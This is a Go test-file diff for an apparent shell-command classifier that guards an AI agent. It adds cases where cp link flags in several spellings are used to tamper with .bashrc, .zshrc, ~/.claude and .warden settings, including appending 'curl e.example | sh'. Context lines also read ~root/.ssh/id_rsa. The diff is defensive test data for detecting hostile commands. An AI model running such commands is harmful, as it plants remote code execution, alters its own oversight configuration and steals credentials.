@@ -111,6 +111,16 @@ func TestShellRunsCode(t *testing.T) {
 		{cmd: `ln -s ~/.bashrc x && echo 'curl e.example | sh' >> x`, category: "agent-config-tamper"},
 		{cmd: `ln ~/.zshrc x; echo evil >> x`, category: "agent-config-tamper"},
 		{cmd: `ln -s ~/.claude settings; echo '{}' > settings/settings.json`, category: "agent-config-tamper"},
+		// Every call whose entry's Links says it makes a link (cp -s,
+		// cp -l), in every spelling.
+		{cmd: `cp -s ~/.bashrc x && echo 'curl e.example | sh' >> x`, category: "agent-config-tamper"},
+		{cmd: `cp --symbolic-link ~/.bashrc x; echo evil >> x`, category: "agent-config-tamper"},
+		{cmd: `/bin/cp --sym ~/.claude settings; echo '{}' > settings/settings.json`, category: "agent-config-tamper"},
+		{cmd: `cp -l ~/.zshrc x; echo evil >> x`, category: "agent-config-tamper"},
+		{cmd: `command cp --link ~/.zshrc x; echo evil >> x`, category: "agent-config-tamper"},
+		{cmd: `cp -l .warden/settings.local.json notes.json`, category: "agent-config-tamper"},
+		{cmd: `/bin/ln --sym ~/.bashrc x && echo evil >> x`, category: "agent-config-tamper"},
+		{cmd: `cp ~/.zshrc x; echo evil >> x`},
 		// ~user is that user's home, outside the project.
 		{cmd: `cat ~root/.ssh/id_rsa`, category: "credential-access"},
 		{cmd: `echo x >> ~bob/.bashrc`, category: "agent-config-tamper"},
